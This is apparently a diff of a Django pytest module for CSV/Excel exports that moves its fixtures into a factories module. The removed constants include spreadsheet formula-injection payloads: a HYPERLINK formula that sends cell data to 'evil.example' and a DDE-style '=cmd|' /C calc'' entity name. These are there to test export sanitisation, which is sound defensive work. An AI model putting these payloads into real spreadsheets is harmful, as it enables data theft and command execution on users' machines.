@@ -14,11 +14,17 @@ from testruns import exports
 from testruns.execution import start_run
 from testruns.models import EntityResult, Status, TestRun
 from testruns.options import RunOptions
+from tests.factories import (
+    FORMULA,
+    HUGE_CELL,
+    LONG,
+    SITE_CSV,
+    make_exportable_run,
+    make_hostile_run,
+    make_result,
+)
 
 pytestmark = pytest.mark.django_db
-
-LONG = "an_entity_name_longer_than_excel_allows"  # 39 characters: two of these clash after the cut
-SITE_CSV = "site_id,code,area,note,flag\n1,007,1.5,=1+1,True\n2,010,,plain \x07bell,False\n"
 
 
 @pytest.fixture
@@ -31,51 +37,9 @@ def demo_run(demo_version, alice, django_capture_on_commit_callbacks):
     return run
 
 
-def make_run(version, user) -> TestRun:
-    """A finished run with odd entity names, typed columns, a failed and a skipped entity (no files).
-
-    Loaded with ``TestRun.objects.for_export``; the export view and command tests use it too.
-    """
-    run = TestRun.objects.create(
-        configuration=version.configuration,
-        version=version,
-        requested_by=user,
-        status=Status.COMPLETED,
-        options={"max_rows_per_entity": 100},
-        entities_total=5,
-        entities_completed=5,
-        entities_succeeded=3,
-        entities_failed=1,
-        entities_skipped=1,
-    )
-
-    def result(position, entity, status, content=None, **fields):
-        output = ""
-        if content is not None:
-            output = default_storage.save(
-                f"runs/{run.pk}/{entity.replace('/', '_')}.csv", ContentFile(content)
-            )
-        return EntityResult.objects.create(
-            run=run, position=position, entity=entity, status=status, output=output, **fields
-        )
-
-    result(
-        0, "site", "success", SITE_CSV.encode(), rows_in=10, rows_out=2, duration_ms=12,
-        columns=["site_id", "code", "area", "note", "flag"],
-        dtypes={"site_id": "int64", "code": "object", "area": "float64", "note": "object", "flag": "bool"},
-        warnings=["2 rows dropped as duplicates"],
-        issues=[{"severity": "warning", "code": "x", "message": "note is empty", "location": "demo.yml:3"}],
-    )  # fmt: skip
-    result(1, "sample/type", "success", "name\nÄpfel\n".encode(), rows_out=1, columns=["name"])
-    result(2, LONG + "_1", "success", b"a\n1\n", rows_out=1, columns=["a"], role="dependency")
-    result(3, LONG + "_2", "failed", error="KeyError: 'no_such_column'", traceback="Traceback …")
-    result(4, "after_broken", "skipped", error="depends on a failed entity")
-    return TestRun.objects.for_export().get(pk=run.pk)
-
-
 @pytest.fixture
 def made_run(demo_version, alice):
-    return make_run(demo_version, alice)
+    return make_exportable_run(demo_version, alice)
 
 
 def unzip(archive) -> zipfile.ZipFile:
@@ -288,10 +252,10 @@ def test_it_exports_runs_that_ended_badly(made_run, status):
 
 
 def test_it_gives_each_table_its_own_file_name_in_the_zip(made_run):
-    other = EntityResult.objects.create(
-        run=made_run,
-        position=5,
-        entity="sample_type",  # "sample/type" is sample_type.csv already
+    other = make_result(
+        made_run,
+        "sample_type",
+        5,  # "sample/type" is sample_type.csv already
         status="success",
         output=default_storage.save(f"runs/{made_run.pk}/other.csv", ContentFile(b"b\n2\n")),
     )
@@ -326,16 +290,6 @@ def test_it_writes_numbers_excel_cannot_keep_as_text(made_run):
 
 # --- hostile text: formulas and huge cells ---
 
-FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
-HUGE_CELL = "a" * 1_200_000  # beyond csv's default field limit (131,072) and Excel's cell limit (32,767)
-HOSTILE_CONFIG = """
-entities:
-  "=cmd|' /C calc'!A0":
-    type: csv
-    options: {filename: notes.csv, dtype: str, keep_default_na: false}
-    columns: ["id", "text", '=HYPERLINK("http://evil.example/?x="&A2,"x")']
-"""
-
 
 def formula_cells(workbook) -> list[str]:
     """Every cell of the workbook Excel would evaluate (a formula) or show as an error value."""
@@ -346,21 +300,6 @@ def formula_cells(workbook) -> list[str]:
         for cell in row
         if cell.data_type in ("f", "e")
     ]
-
-
-def make_hostile_run(write_config, user, capture) -> TestRun:
-    """A real run (django-q2 sync mode) of an entity named like a formula, with a header like a formula
-    and a cell of 1.2 million characters; loaded with ``TestRun.objects.for_export``."""
-    from configurations.importing import import_configuration
-
-    quoted = '"' + FORMULA.replace('"', '""') + '"'
-    notes = f"id,text,{quoted}\n1,{HUGE_CELL},=1+1\n2,#N/A,-2\n"
-    version, _ = import_configuration(write_config(HOSTILE_CONFIG, notes__csv=notes), user=user)
-    with capture(execute=True):
-        run = start_run(version, RunOptions(), user)
-    run = TestRun.objects.for_export().get(pk=run.pk)
-    assert run.status == Status.COMPLETED, run.error_message
-    return run
 
 
 @pytest.fixture
